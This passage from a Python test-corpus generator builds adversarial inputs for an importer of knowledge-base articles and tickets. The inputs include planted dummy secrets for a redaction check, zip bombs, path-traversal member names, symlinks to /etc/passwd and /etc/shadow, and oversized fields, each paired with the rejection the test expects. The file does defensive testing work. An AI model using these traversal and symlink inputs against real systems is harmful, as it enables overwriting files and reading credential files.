        f"```ini\n[default]\naws_access_key_id = {S['aws_key_id']}\naws_secret_access_key = {S['aws_secret']}\n```\n\n"
        f"```\n{WIREGUARD}\n```\n\n"
        f"BitLocker recovery key for the demo laptop: {S['bitlocker']}\n\n"
        f"Connection string: `Server=tcp:acme-sql.database.windows.net,1433;Database=billing;User ID=sqladmin;Password={S['sql_password']};`\n\n"
        f"Test card: {S['card_unspaced']}\n\n"
        f"```env\nDB_PASSWORD={S['env_db_password']}\n```\n\n"
        f"{PEM}\n"
    )
    kb_folder(
        "secrets",
        {
            "good.md": art("KB-SE-GOOD"),
            "body.md": art("KB-SE-BODY", title="VPN and backup setup", body=secret_body),
            "front_matter.md": raw_art(
                f'id: KB-SE-FM\ntitle: "Reset pw for kiosk to {S["title_pw"]}"\ntype: how-to\n'
                f'author: Dana Whitfield\ntags: ["psk={S["vpn_psk"]}"]\nclients: ["Acme ({S["email_in_client"]})"]',
            ),
            "headings.md": art(
                "KB-SE-HEAD",
                title="Secret in a heading",
                body=f"## new pass {S['new_pass']}\n\nText under it.\n",
            ),
        },
        ["KB-SE-GOOD", "KB-SE-BODY", "KB-SE-FM", "KB-SE-HEAD"],
        secrets=[
            S[k]
            for k in (
                "temp_pw",
                "aws_secret",
                "aws_key_id",
                "wg_private",
                "wg_psk",
                "bitlocker",
                "sql_password",
                "card_unspaced",
                "env_db_password",
                "pem_line",
                "title_pw",
                "vpn_psk",
                "email_in_client",
                "new_pass",
            )
        ],
        notes="Secrets in an article body (prose, code fences, PEM), its front matter (title, tags, clients) and a heading (which becomes a section anchor and a search heading).",
    )


def built() -> None:
    zips = [
        (
            "zip_bomb",
            {"expanded_bytes": 1024 * 1024 * 1024},
            ["KB-ZB-GOOD"],
            ["KB-ZB-BOMB"],
            [rej("bomb.md", "*", "large|size|ratio|limit|expan")],
            None,
            True,
            "Issue 13 finding 3: a ~1 MB zip whose member expands to 1 GiB. Refused by expanded size or ratio before it is read; the good member loads; nothing large is left in the temp directory.",
        ),
        (
            "many_bombs_zip",
            {"members": 32, "member_bytes": 32 * 1024 * 1024},
            ["KB-MB-GOOD"],
            [],
            [],
            "large|size|total|limit|expan",
            True,
            "32 members of 32 MiB each (1 GiB together): each may pass a per-file cap, the total must not. Either the whole archive is refused, or members past the total cap are rejected.",
        ),
        (
            "nested_zip",
            {"depth": 20},
            ["KB-NZ-GOOD"],
            ["KB-NZ-INNER"],
            [],
            None,
            False,
            "A zip inside a zip 20 levels deep: inner archives are never expanded.",
        ),
        (
            "traversal_zip",
            {},
            ["KB-TR-GOOD"],
            ["KB-TR-DOTDOT", "KB-TR-ABS", "KB-TR-BACKSLASH", "KB-TR-DRIVE", "KB-TR-MID"],
            [
                rej(m, "*", "path|unsafe|traversal|absolute|outside")
                for m in (
                    "../../evil-traversal.md",
                    "/tmp/evil-absolute.md",
                    "..\\..\\evil-backslash.md",
                    "C:/Windows/evil-drive.md",
                    "good/../../evil-mid.md",
                )
            ],
            None,
            False,
            "Members named ../../x, /tmp/x, ..\\..\\x, C:/x and a/../../x: nothing is written outside the extraction folder and each is rejected with its path. Today the names are flattened and silently loaded.",
        ),
        (
            "symlink_zip",
            {},
            ["KB-SL-GOOD"],
            [],
            [rej("passwd.md", "*", "symlink|link"), rej("up.md", "*", "symlink|link")],
            None,
            False,
            "Members stored as symlinks to /etc/passwd and ../../../../etc/shadow: never followed or extracted as links.",
        ),
        (
            "same_name_zip",
            {},
            ["KB-SN-A", "KB-SN-B", "KB-SN-C"],
            [],
            [],
            None,
            False,
            "Issue 13 finding 3: clientA/setup.md and clientB/setup.md are flattened to one setup.md today, so one article silently disappears.",
        ),
        (
            "duplicate_member_zip",
            {},
            ["KB-DM-GOOD"],
            [],
            [rej("twice.md", "*", "duplicate|twice|same name")],
            None,
            False,
            "The same member name twice (with different ids): ambiguous, so reported (keeping the first, or neither); today the second silently overwrites the first.",
        ),
        (
            "deep_path_zip",
            {"depth": 300},
            ["KB-DP-GOOD", "KB-DP-DEEP", "KB-DP-LONG"],
            [],
            [],
            None,
            False,
            "A member 300 folders deep and one with a 303-character file name (over the 255-byte limit of most file systems: extracting it by name fails with OSError today).",
        ),
        (
            "macos_zip",
            {},
            ["KB-MAC-GOOD"],
            [],
            [],
            None,
            False,
            "Finder's __MACOSX/._setup.md AppleDouble junk and .DS_Store: skipped or rejected, never a crash; the real article loads.",
        ),
        (
            "encrypted_member_zip",
            {},
            ["KB-LK-GOOD"],
            ["KB-LK-LOCKED"],
            [rej("locked.md", "*", "encrypt|password")],
            None,
            False,
            "A member flagged as encrypted: zipfile raises RuntimeError on read (today an HTML 500).",
        ),
        (
            "unsupported_method_zip",
            {},
            ["KB-UM-GOOD"],
            ["KB-UM-AES"],
            [rej("aes.md", "*", "compression|method|unsupported")],
            None,
            False,
            "Compression method 99 (AES): zipfile raises NotImplementedError (today an HTML 500).",
        ),
        (
            "corrupt_member_zip",
            {},
            ["KB-CRC-GOOD"],
            ["KB-CRC-BAD"],
            [rej("corrupt.md", "*", "crc|corrupt|checksum|damaged")],
            None,
            False,
            "One member fails its CRC check: today BadZipFile refuses the whole upload as 'not a zip archive' and the good member is lost.",
        ),
        (
            "truncated_zip",
            {},
            [],
            [],
            [],
            "zip|archive|corrupt|truncated",
            False,
            "Half a zip (no central directory): one clear JSON error.",
        ),
        (
            "not_a_zip",
            {},
            [],
            [],
            [],
            "zip|archive",
            False,
            "Markdown uploaded as .zip: one clear JSON error.",
        ),
    ]
    for name, args, good, bad, rejected, file_error, isolate, notes in zips:
        fields: dict[str, Any] = {
            "builder": name,
            "args": args,
            "bad_ids": bad,
            "rejected": rejected,
            "notes": notes,
        }
        if file_error:
            fields["file_error"] = file_error
        if isolate:
            fields["isolate"] = True
        if name in ("many_bombs_zip", "duplicate_member_zip"):
            fields["exact"] = False
        entry(f"builders.py::{name}", "kb-zip", good, **fields)

    entry(
        "builders.py::symlink_kb_folder",
        "kb",
        ["KB-SY-GOOD"],
        builder="symlink_kb_folder",
        args={},
        bad_ids=["KB-SY-OUTSIDE", "KB-SY-LINKED-DIR"],
        secrets=["OutsideVault-7731!"],
        rejected=[rej("leak.md", "*", "symlink|link|outside")],
        notes=(
            "A KB folder with a symlink to an article outside it (holding a secret) and a symlink "
            "to an outside folder: links are not followed out of the folder, and the file link is "
            "reported. Today the file link is read like any article."
        ),
    )
    entry(
        "builders.py::dangling_symlink_kb_folder",
        "kb",
        ["KB-DS-GOOD"],
        builder="dangling_symlink_kb_folder",
        args={},
        rejected=[rej("dangling.md", "*", "symlink|link|missing|not found|exist")],
        notes="A dangling symlink named *.md: today read_bytes raises FileNotFoundError and ends the run.",
    )
    entry(
        "builders.py::huge_field_csv",
        "tickets",
        ["HF-001", "HF-003"],
        builder="huge_field_csv",
        args={"cell_bytes": 65 * 1024 * 1024},
        bad_ids=["HF-002"],
        isolate=True,
        rejected=[rej(3, "*", "large|limit|size|long")],
        notes="A 65 MiB cell (over the 64 MiB cell limit): today csv.Error stops the reader and HF-003 is lost.",
    )
    entry(
        "builders.py::huge_line_jsonl",
        "tickets",
        ["HL-001", "HL-003"],
        builder="huge_line_jsonl",
        args={"field_bytes": 65 * 1024 * 1024},
        bad_ids=["HL-002"],
        isolate=True,
        rejected=[rej(2, "description", "large|limit|size|long")],
        notes="A 65 MiB description in JSON Lines: a field size limit applies to JSON as to CSV (today it is stored).",
    )


def main() -> None:
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    CORPUS.mkdir(parents=True)
    encodings()
    broken_csv()
    broken_json()
    overflows()
    dates()
    surrogates()
    xss_and_escapes()
    secrets()
    kb()
    built()
    with (CORPUS / "MANIFEST.jsonl").open("w", encoding="utf-8") as handle:
        for record in MANIFEST:
            handle.write(json.dumps(record, ensure_ascii=True) + "\n")
    files = [p for p in CORPUS.rglob("*") if p.is_file() and p.name != "MANIFEST.jsonl"]
    size = sum(p.stat().st_size for p in files)
    print(f"{len(files)} corpus files ({size / 1024:.0f} KB), {len(MANIFEST)} manifest entries")


if __name__ == "__main__":
    main()
